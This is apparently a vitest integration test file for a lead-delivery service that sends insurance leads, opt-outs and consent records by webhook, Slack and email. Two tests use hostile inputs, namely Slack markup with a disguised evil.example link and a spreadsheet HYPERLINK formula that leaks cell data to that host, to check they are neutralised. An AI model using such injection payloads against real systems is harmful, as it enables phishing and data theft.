import { createHash } from 'node:crypto'
import { afterAll, afterEach, beforeAll, beforeEach, describe, expect, it } from 'vitest'
import { createApp } from '../../../server/app'
import type { Database } from '../../../server/db/database'
import { migrate } from '../../../server/db/migrations'
import type { DeliverySettings } from '../../../server/delivery/config'
import { type LeadDelivery, startLeadDelivery } from '../../../server/delivery/worker'
import { verifyWebhook } from '../../../supabase/functions/_shared/leadDelivery/signature'
import { chatLead, lead, optOut } from '../../../scripts/support/lead'
import { localDay } from '../../../rules/days'
import { isCoverageYear, latestCoverageYear } from '../../../rules/yearFacts'
import { yearOnSale } from '../../../rules/yearOnSale'
import type { Database as Api } from '../../../supabase/database.types'
import { chatLeadOutcome } from '../../../supabase/functions/_shared/leadDelivery/chatLeadOutcome.generated.js'
import { startSmtpCapture } from '../../support/smtpCapture'
import { eventually, type Received, startReceiver } from '../../../scripts/support/webhookReceiver'
import { signedAuthorization } from './authorization'
import { ANON_KEY, listen, makeSite, removeDir, SERVICE_KEY, supabase } from './backend'

export const SECRET = 'whsec_MfKQ9r8GKYqrTwjUPD8ILPZIo2LaLaSw'

/**
 * A 30-year-old on Medicaid in Columbus, Ohio, a household of one under Medicaid's line, as the chat stores them: for
 * the year on sale today, or the latest year the rules have (the database takes a coverage year near today only).
 */
export function ohioMedicaidChatLead() {
  const onSale = yearOnSale(localDay(new Date())).year
  return chatLead({
    state: 'Ohio',
    zip_code: '43215',
    age_range: 'age26to35',
    current_insurance: 'medicaid',
    household_size: 1,
    income_band: 'toMedicaidLine',
    coverage_year: isCoverageYear(onSale) ? onSale : latestCoverageYear(),
  })
}

/**
 * The outcome server/ and the Edge Function must both deliver for that lead: what the shared bundle computes from the
 * stored answers (tests/unit/chatLeadOutcome.test.ts holds its words), and so Medicaid likely in Ohio.
 */
export function expectedOutcome(row: ReturnType<typeof ohioMedicaidChatLead>) {
  const outcome = chatLeadOutcome(row)
  expect(outcome).toMatchObject({ code: 'medicaidLikely', depends_on: null })
  expect(outcome?.line).toMatch(/^Likely Medicaid in Ohio \(\d{4}, at or under 138%\)/)
  return outcome
}

/** A captured email's text as a person reads it: quoted-printable soft line breaks joined, '=3D' back to '='. */
const readable = (raw: string) => raw.replace(/=\r?\n/g, '').replace(/=3D/g, '=')

/** A one-part email's body decoded as its mail program shows it (quoted-printable or base64, UTF-8). */
function decodedBody(raw: string): string {
  const [head, ...rest] = raw.split(/\r?\n\r?\n/)
  const body = rest.join('\n\n')
  if (/content-transfer-encoding:\s*base64/i.test(head)) return Buffer.from(body, 'base64').toString('utf8')
  if (!/content-transfer-encoding:\s*quoted-printable/i.test(head)) return body
  const bytes: number[] = []
  const joined = body.replace(/=\r?\n/g, '')
  for (let i = 0; i < joined.length; i += 1) {
    const hex = joined[i] === '=' ? /^[0-9A-F]{2}/.exec(joined.slice(i + 1, i + 3)) : null
    if (hex) {
      bytes.push(Number.parseInt(hex[0], 16))
      i += 2
    } else bytes.push(...Buffer.from(joined[i], 'utf8'))
  }
  return Buffer.from(bytes).toString('utf8')
}

/** The webhook's signature headers of a received request. */
export function signatureOf(request: Received) {
  return {
    id: String(request.headers['webhook-id']),
    timestamp: String(request.headers['webhook-timestamp']),
    signature: String(request.headers['webhook-signature']),
  }
}

/**
 * A lead typed into the site reaching the agency: server/ with its deliverer, a loopback receiver for the webhook
 * (/hook) and the chat (/chat), and an SMTP capture, on any storage.
 */
export function describeDelivery(storage: string, open: () => Promise<{ db: Database; close: () => Promise<void> }>) {
  describe(`lead delivery from server/ on ${storage}`, () => {
    const harness = deliveryHarness(open)
    describeDeliveries(harness)
    describeDeliveryTrouble(harness)
  })
}

type DeliveryHarness = Awaited<ReturnType<typeof deliveryHarness>>

/** server/ on a migrated database, a receiver and an SMTP capture, set up once and cleared before each test. */
function deliveryHarness(open: () => Promise<{ db: Database; close: () => Promise<void> }>) {
  let db: Database
  let close: () => Promise<void>
  let siteDir: string
  let app: { url: string; close: () => Promise<void> }
  let delivery: LeadDelivery | undefined
  const log: string[] = []
  const receiver = startReceiver()
  const smtp = startSmtpCapture()

  beforeAll(async () => {
    ;({ db, close } = await open())
    await migrate(db)
    siteDir = await makeSite()
    app = await listen(
      createApp({
        distDir: siteDir,
        db,
        rateLimit: false,
        agentAuthorization: true,
        onLeadStored: () => delivery?.wake(),
      }),
    )
  }, 60_000)
  beforeEach(async () => {
    // What earlier tests (or suites on the same database) left undelivered must not reach this test's receiver.
    await db.transaction(async (session) => {
      await session.query('delete from public.lead_notifications')
      await session.query('delete from private.words_differ_reports')
    })
    ;(await receiver).received.length = 0
    ;(await receiver).answer(() => ({ status: 200 }))
    log.length = 0
  })
  afterEach(async () => {
    await delivery?.stop()
    delivery = undefined
  })
  afterAll(async () => {
    await app?.close()
    await (await receiver).close()
    await (await smtp).close()
    await close?.()
    await removeDir(siteDir)
  })

  async function deliverTo(
    targets: Partial<Record<'webhook' | 'chat' | 'email', true>>,
    overrides: Partial<DeliverySettings> = {},
  ) {
    const { url } = await receiver
    delivery = await startLeadDelivery(
      db,
      {
        targets: {
          ...(targets.webhook ? { webhook: { url: `${url}/hook`, secret: SECRET } } : {}),
          ...(targets.chat ? { chat: { url: `${url}/chat`, kind: 'slack' as const } } : {}),
          ...(targets.email
            ? {
                email: { to: ['leads@agency.example'], from: 'site@agency.example', siteUrl: 'https://agency.example' },
              }
            : {}),
        },
        smtpUrl: targets.email ? (await smtp).url : undefined,
        sweepSeconds: 0.1,
        retryBaseSeconds: 0.2,
        leaseSeconds: 5,
        ...overrides,
      },
      (line) => log.push(line),
    )
  }

  async function send(overrides: Record<string, unknown> = {}) {
    const row = lead(overrides)
    const { error } = await supabase(app.url, ANON_KEY).from('contact_submissions').insert(row)
    expect(error).toBeNull()
    return row
  }

  async function sendChat(row: ReturnType<typeof chatLead>) {
    const { error } = await supabase(app.url, ANON_KEY).from('contact_submissions').insert(row)
    expect(error).toBeNull()
    return row
  }

  async function sendOptOut(overrides: Record<string, unknown> = {}) {
    const row = optOut(overrides)
    const { error } = await supabase(app.url, ANON_KEY).from('contact_opt_outs').insert(row)
    expect(error).toBeNull()
    return row
  }

  const optOutDeliveries = (id: string) =>
    db.transaction((session) =>
      session.query<{ target: string; status: string; attempts: number }>(
        'select target, status, attempts from public.lead_notifications where opt_out_id = $1 order by target',
        [id],
      ),
    )

  async function deliveries(id: string) {
    const { data, error } = await supabase(app.url, SERVICE_KEY).rpc('lead_deliveries', { lead_ids: [id] })
    expect(error).toBeNull()
    return data as {
      target: string
      status: string
      attempts: number
      delivered_at: string | null
      last_error: string | null
    }[]
  }

  return {
    receiver,
    smtp,
    log,
    deliverTo,
    send,
    sendChat,
    sendOptOut,
    optOutDeliveries,
    deliveries,
    signAuthorization: (link: Record<string, unknown> = {}) => signedAuthorization(app.url, link),
    /** A page's report that the database refused the consent words it showed, as the page sends it (anon). */
    reportWordsDiffer: async (args: Api['public']['Functions']['report_consent_words_differ']['Args']) => {
      return supabase(app.url, ANON_KEY).rpc('report_consent_words_differ', args)
    },
  }
}

/** Leads and opt-outs reaching every target, in words that cannot be mistaken for markup or formulas. */
function describeDeliveries({
  receiver,
  smtp,
  log,
  deliverTo,
  send,
  sendChat,
  sendOptOut,
  optOutDeliveries,
  deliveries,
  signAuthorization,
}: DeliveryHarness) {
  it("delivers a chat lead with the outcome server/ recomputes from its stored answers: the webhook's outcome, the chat's line, the email", async () => {
    await deliverTo({ webhook: true, chat: true, email: true })
    const { at } = await receiver
    const row = ohioMedicaidChatLead()
    const outcome = expectedOutcome(row)
    await sendChat(row)
    const mails = (await smtp).mails
    await eventually(
      async () => at('/hook').length === 1 && at('/chat').length === 1 && mails.some(({ raw }) => raw.includes(row.id)),
      15_000,
      () => log.join('\n'),
    )
    const event = JSON.parse(at('/hook')[0].body)
    expect(event.outcome).toEqual(outcome)
    expect(event.data).toMatchObject({
      id: row.id,
      household_size: 1,
      income_band: 'toMedicaidLine',
      coverage_year: row.coverage_year,
      current_insurance: 'medicaid',
      income_range: null,
    })
    const chat = JSON.parse(at('/chat')[0].body).text as string
    expect(chat).toContain(`Outcome: ${outcome?.line}`)
    expect(chat).not.toContain('43215')
    const mail = mails.find((candidate) => candidate.raw.includes(row.id))
    expect(readable(mail?.raw ?? '')).toContain(`Outcome: ${outcome?.line}`)
    // The next tests wait for a first mail of their own.
    mails.length = 0
  }, 30_000)

  it('delivers a stored lead at once: signed to the webhook whole, to the chat without contact details, by email', async () => {
    await deliverTo({ webhook: true, chat: true, email: true })
    const { at } = await receiver
    const row = await send({ utm_source: 'google', gclid: 'Cj0' })
    await eventually(
      async () => at('/hook').length === 1 && at('/chat').length === 1 && (await smtp).mails.length > 0,
      15_000,
      () => log.join('\n'),
    )

    const [hook] = at('/hook')
    expect(await verifyWebhook(SECRET, signatureOf(hook), hook.body)).toBe(true)
    expect(await verifyWebhook(SECRET, signatureOf(hook), hook.body.replace('Ana', 'Eve'))).toBe(false)
    const event = JSON.parse(hook.body)
    expect(event).toMatchObject({
      type: 'lead.created',
      data: {
        id: row.id,
        email: row.email,
        phone: row.phone,
        source: 'home_callback',
        utm_source: 'google',
        gclid: 'Cj0',
      },
    })
    expect(event.data).not.toHaveProperty('website')

    const chat = JSON.parse(at('/chat')[0].body).text as string
    expect(chat).toContain(`New lead: Ana (Florida) from /`)
    expect(chat).toContain(row.id)
    expect(chat).not.toContain(row.email)
    expect(chat).not.toContain(row.phone.replace(/\D/g, '').slice(-4))

    const mail = (await smtp).mails.find((candidate) => candidate.raw.includes(row.id))
    expect(mail?.to).toEqual(['leads@agency.example'])
    expect(mail?.raw).toContain(`Phone: ${row.phone}`)
    expect(mail?.raw).toContain(`Message-ID: <`)

    await eventually(async () => (await deliveries(row.id)).every((delivery) => delivery.status === 'delivered'))
    expect((await deliveries(row.id)).map(({ target, attempts }) => ({ target, attempts }))).toEqual([
      { target: 'chat', attempts: 1 },
      { target: 'email', attempts: 1 },
      { target: 'webhook', attempts: 1 },
    ])
  }, 30_000)

  it('delivers a stored opt-out at once, marked as one: its own signed webhook event, a chat message without contact details, the details by email', async () => {
    await deliverTo({ webhook: true, chat: true, email: true })
    const { at } = await receiver
    const row = await sendOptOut({ stop: 'texts' })
    await eventually(
      async () =>
        at('/hook').length === 1 &&
        at('/chat').length === 1 &&
        (await smtp).mails.some((mail) => mail.raw.includes(row.id)),
      15_000,
      () => log.join('\n'),
    )

    const [hook] = at('/hook')
    expect(await verifyWebhook(SECRET, signatureOf(hook), hook.body)).toBe(true)
    expect(JSON.parse(hook.body)).toMatchObject({
      type: 'opt_out.created',
      data: { id: row.id, phone: row.phone, email: row.email, stop: 'texts', honor_by: expect.any(String) },
    })

    const chat = JSON.parse(at('/chat')[0].body).text as string
    expect(chat).toContain('Opt-out: stop text messages')
    expect(chat).toContain(row.id)
    expect(chat).not.toContain(row.email)
    expect(chat).not.toContain(row.phone.replace(/\D/g, '').slice(-4))

    const mail = (await smtp).mails.find((candidate) => candidate.raw.includes(row.id))
    expect(mail?.raw).toContain('Subject: Opt-out: stop text messages')
    expect(mail?.raw).toContain(`Phone: ${row.phone}`)
    expect(readable(mail?.raw ?? '')).toContain(`Email: ${row.email}`)
    await eventually(async () => (await optOutDeliveries(row.id)).every((delivery) => delivery.status === 'delivered'))
    expect((await optOutDeliveries(row.id)).map(({ target }) => target)).toEqual(['chat', 'email', 'webhook'])
  }, 30_000)

  it("delivers a signed CMS consent as its own event: the whole record signed to the webhook, a chat message without the consumer, the record by email, and the consumer's copy in their language", async () => {
    await deliverTo({ webhook: true, chat: true, email: true })
    const { at } = await receiver
    const id = await signAuthorization({ language: 'es', consumer_email: 'ana.diaz@example.com' })
    await eventually(
      async () =>
        at('/hook').length === 1 &&
        at('/chat').length === 1 &&
        (await smtp).mails.filter((mail) => mail.raw.includes(id)).length === 2,
      15_000,
      () => log.join('\n'),
    )

    const [hook] = at('/hook')
    expect(await verifyWebhook(SECRET, signatureOf(hook), hook.body)).toBe(true)
    const event = JSON.parse(hook.body)
    expect(event).toMatchObject({
      type: 'authorization.created',
      data: { id, consumer_name: 'Ana María Díaz', agent_name: 'Sam Agent', name_matches: true },
    })
    expect(event.data.consent_sha256).toMatch(/^[0-9a-f]{64}$/)
    expect(event.data).not.toHaveProperty('link')

    const chat = JSON.parse(at('/chat')[0].body).text as string
    expect(chat).toContain('CMS consent signed for agent Sam Agent')
    expect(chat).toContain(id)
    expect(chat).not.toContain('Ana')

    const mails = (await smtp).mails.filter((candidate) => candidate.raw.includes(id))
    const staff = mails.find((candidate) => candidate.to.includes('leads@agency.example'))
    const mail = readable(staff?.raw ?? '')
    expect(mail).toContain(`Record SHA-256 ${event.data.record_sha256}`)
    expect(mail).toContain(`Consent ${event.data.consent_version}, SHA-256 ${event.data.consent_sha256}:`)
    // The consumer's copy: to them alone, in Spanish, the words they agreed to, the opt-out page in Spanish.
    const copy = mails.find((candidate) => candidate.to.includes('ana.diaz@example.com'))
    expect(copy?.to).toEqual(['ana.diaz@example.com'])
    const copyText = decodedBody(copy?.raw ?? '')
    expect(copyText).toContain('Esta es su copia del consentimiento')
    expect(copyText).toContain('https://agency.example/es/opt-out')
    expect(copyText).toContain(`Consentimiento: ${event.data.consent_text}`)
    expect(copyText).toContain(`Número de registro: ${id}`)
    await eventually(async () => (await deliveries(id)).every((delivery) => delivery.status === 'delivered'))
    expect((await deliveries(id)).map(({ target }) => target)).toEqual(['chat', 'copy', 'email', 'webhook'])
  }, 30_000)

  it('delivers every opt-out once the receiver is back after being down, each repeat with the same webhook-id', async () => {
    const { at, answer } = await receiver
    answer(() => ({ status: 503 }))
    await deliverTo({ webhook: true })
    const rows = [await sendOptOut(), await sendOptOut({ phone: null })]
    await eventually(() => at('/hook').length >= 4)
    answer(() => ({ status: 200 }))
    for (const row of rows) await eventually(async () => (await optOutDeliveries(row.id))[0]?.status === 'delivered')
    const byId = new Map<string, Set<string>>()
    for (const request of at('/hook')) {
      const id = String(request.headers['webhook-id'])
      byId.set(id, new Set([...(byId.get(id) ?? []), JSON.parse(request.body).data.id]))
    }
    expect(byId.size).toBe(2)
    expect([...byId.values()].map((ids) => ids.size)).toEqual([1, 1])
    expect((await optOutDeliveries(rows[0].id))[0].attempts).toBeGreaterThan(1)
  }, 30_000)

  it('delivers a lead from a contact that opted out before it, saying so: the webhook, the chat and the email', async () => {
    await deliverTo({ webhook: true, chat: true, email: true })
    const { at } = await receiver
    const earlier = await sendOptOut({ email: null })
    const row = await send({ phone: earlier.phone })
    await eventually(
      async () =>
        at('/hook').length === 2 &&
        at('/chat').length === 2 &&
        (await smtp).mails.some((mail) => mail.raw.includes(row.id)),
      15_000,
      () => log.join('\n'),
    )
    const leadEvent = at('/hook')
      .map((request) => JSON.parse(request.body))
      .find((event) => event.type === 'lead.created')
    expect(leadEvent.data).toMatchObject({ id: row.id, opted_out_earlier: { id: earlier.id, stop: 'all' } })
    // Both came from this test's client: the lead may be new consent, from the client that asked to stop.
    expect(leadEvent.opted_out_earlier).toMatchObject({ id: earlier.id, stop: 'all', same_client: 'same_browser' })
    expect(
      at('/chat')
        .map((request) => JSON.parse(request.body).text)
        .find((text: string) => text.includes(row.id)),
    ).toContain('this lead may be new consent: it came from the network address and browser that asked to stop')
    expect(readable((await smtp).mails.find((mail) => mail.raw.includes(row.id))?.raw ?? '')).toContain(
      'Earlier opt-out: This contact asked to stop calls, text messages and emails',
    )
  }, 30_000)

  it('posts a first name made of Slack markup to the chat as text: no channel ping, no disguised link', async () => {
    await deliverTo({ chat: true })
    const { at } = await receiver
    const row = await send({ first_name: '<!channel> <https://evil.example/login|Open this lead in the CRM>' })
    await eventually(
      () => at('/chat').length === 1,
      15_000,
      () => log.join('\n'),
    )
    const message = JSON.parse(at('/chat')[0].body)
    expect(message).toEqual({
      text: expect.stringContaining(
        `New lead: &lt;!channel&gt; &lt;https://evil.example/login|Open this lead in the CRM&gt; (Florida)`,
      ),
      mrkdwn: false,
    })
    expect(message.text).toContain(row.id)
    expect(message.text).not.toMatch(/[<>]/)
  })

  it('posts a first name made of a spreadsheet formula to the webhook as text, and emails it as written', async () => {
    await deliverTo({ webhook: true, email: true })
    const { at } = await receiver
    const formula = '=HYPERLINK("https://evil.example/?"&A1,"Details")'
    const row = await send({ first_name: formula })
    await eventually(
      async () => at('/hook').length === 1 && (await smtp).mails.some((mail) => mail.raw.includes(row.id)),
      15_000,
      () => log.join('\n'),
    )
    expect(JSON.parse(at('/hook')[0].body).data).toMatchObject({
      id: row.id,
      first_name: `'${formula}`,
      phone: row.phone,
    })
    const mail = (await smtp).mails.find((candidate) => candidate.raw.includes(row.id))
    // The email carries the consent record's long lines, so it goes quoted-printable: read it decoded.
    const decoded = (mail?.raw ?? '')
      .replace(/=\r?\n/g, '')
      .replace(/=([0-9A-F]{2})/g, (_, hex: string) => String.fromCharCode(parseInt(hex, 16)))
    expect(decoded).toContain(`Name: ${formula} Diaz`)
  })
}

/** No target configured, a receiver that is down, slow, rate-limiting or gone. */
function describeDeliveryTrouble({
  receiver,
  smtp,
  log,
  deliverTo,
  send,
  deliveries,
  reportWordsDiffer,
}: DeliveryHarness) {
  it('logs one line per lead, without contact details, when no target is configured', async () => {
    await deliverTo({})
    const row = await send()
    await eventually(() => log.some((line) => line.includes(row.id)))
    expect(log.find((line) => line.includes(row.id))).toBe(`New lead ${row.id} from / (Florida)`)
  })

  it('delivers every lead once the receiver is back after being down, each repeat with the same webhook-id', async () => {
    const { at, answer } = await receiver
    answer(() => ({ status: 503 }))
    await deliverTo({ webhook: true })
    const rows = [await send(), await send(), await send()]
    await eventually(
      () => new Set(at('/hook').map((request) => request.headers['webhook-id'])).size === 3 && at('/hook').length >= 6,
    )
    answer(() => ({ status: 200 }))
    for (const row of rows) await eventually(async () => (await deliveries(row.id))[0].status === 'delivered')
    const byId = new Map<string, string[]>()
    for (const request of at('/hook')) {
      const id = String(request.headers['webhook-id'])
      byId.set(id, [...(byId.get(id) ?? []), JSON.parse(request.body).data.id])
    }
    // One webhook-id per lead, however many attempts it took, and each attempt carried its lead.
    expect(byId.size).toBe(3)
    expect([...byId.values()].map((leads) => new Set(leads).size)).toEqual([1, 1, 1])
    expect(new Set([...byId.values()].map((leads) => leads[0]))).toEqual(new Set(rows.map((row) => row.id)))
    const [report] = await deliveries(rows[0].id)
    expect(report.attempts).toBeGreaterThan(1)
    expect(report.delivered_at).not.toBeNull()
  }, 30_000)

  it("waits as long as a 429's Retry-After says before trying again", async () => {
    const { at, answer } = await receiver
    answer((_request, index) => (index === 0 ? { status: 429, headers: { 'retry-after': '2' } } : { status: 200 }))
    await deliverTo({ webhook: true })
    const row = await send()
    await eventually(() => at('/hook').length === 2, 15_000)
    const [first, second] = at('/hook')
    expect(second.at - first.at).toBeGreaterThanOrEqual(2000)
    expect(second.headers['webhook-id']).toBe(first.headers['webhook-id'])
    await eventually(async () => (await deliveries(row.id))[0].status === 'delivered')
  }, 20_000)

  it('gives a target that answers 410 up at once and reports it through the chat, and in the delivery report', async () => {
    const { at, answer } = await receiver
    answer((request) => (request.path === '/hook' ? { status: 410 } : { status: 200 }))
    await deliverTo({ webhook: true, chat: true })
    const row = await send()
    await eventually(
      () => at('/chat').some((request) => request.body.includes('Lead delivery failed (webhook)')),
      15_000,
      () =>
        log.join('\n') +
        at('/chat')
          .map((r) => r.body)
          .join('\n'),
    )
    const alert = JSON.parse(at('/chat').find((request) => request.body.includes('failed'))?.body ?? '{}')
      .text as string
    expect(alert).toContain(`Lead ${row.id}`)
    expect(alert).toContain('answered 410')
    expect(at('/hook')).toHaveLength(1)
    const report = await deliveries(row.id)
    expect(report.find((delivery) => delivery.target === 'webhook')).toMatchObject({
      status: 'dead',
      attempts: 1,
      last_error: expect.stringContaining('410'),
    })
    expect(log.some((line) => line.startsWith('Lead delivery failed (webhook)'))).toBe(true)
  }, 20_000)

  it('tells the chat and the email, once, of a page refused for the consent words it showed (a deployment error)', async () => {
    const { at } = await receiver
    await deliverTo({ chat: true, email: true })
    // A page built with another legal name than the database's: its hashes are of other words.
    const other = (text: string) => createHash('sha256').update(`${text} (another agency)`).digest('hex')
    const report = {
      consent_version: '2026-11-29',
      sms_consent_version: 'sms-2026-11-27',
      consent_shown_sha256: other('call'),
      sms_consent_shown_sha256: other('texts'),
      page: '/es/sep',
    }
    expect(await reportWordsDiffer(report)).toMatchObject({ data: true, error: null })
    await eventually(
      async () =>
        at('/chat').some((request) => request.body.includes('consent words differ')) &&
        (await smtp).mails.some((mail) => mail.raw.includes('consent words differ')),
      15_000,
      () => log.join('\n'),
    )
    const chat = JSON.parse(at('/chat').find((request) => request.body.includes('consent words differ'))?.body ?? '{}')
      .text as string
    expect(chat).toContain('A visitor on /es/sep was refused')
    expect(chat).toContain('(2026-11-29 and sms-2026-11-27)')
    expect(chat).toContain('app.agency_legal_name')
    expect(log.some((line) => line.startsWith('Leads refused: the consent words differ'))).toBe(true)
    // The same pair again that day: kept once, told once.
    expect(await reportWordsDiffer({ ...report, page: '/sep' })).toMatchObject({ data: false, error: null })
    await eventually(
      async () => (await smtp).mails.filter((mail) => mail.raw.includes('consent words differ')).length === 1,
    )
    await new Promise((resolve) => setTimeout(resolve, 500))
    expect(at('/chat').filter((request) => request.body.includes('consent words differ'))).toHaveLength(1)
  }, 20_000)

  it("stores the visitor's lead without waiting for a slow receiver", async () => {
    const { at, answer } = await receiver
    answer(() => ({ status: 200, delayMs: 3000 }))
    await deliverTo({ webhook: true })
    const row = await send()
    const stored = Date.now()
    await eventually(() => at('/hook')[0]?.answeredAt !== undefined, 10_000)
    // The visitor had the answer before the receiver gave its own.
    expect(stored).toBeLessThan(at('/hook')[0].answeredAt ?? 0)
    await eventually(async () => (await deliveries(row.id))[0].status === 'delivered')
  }, 20_000)
}
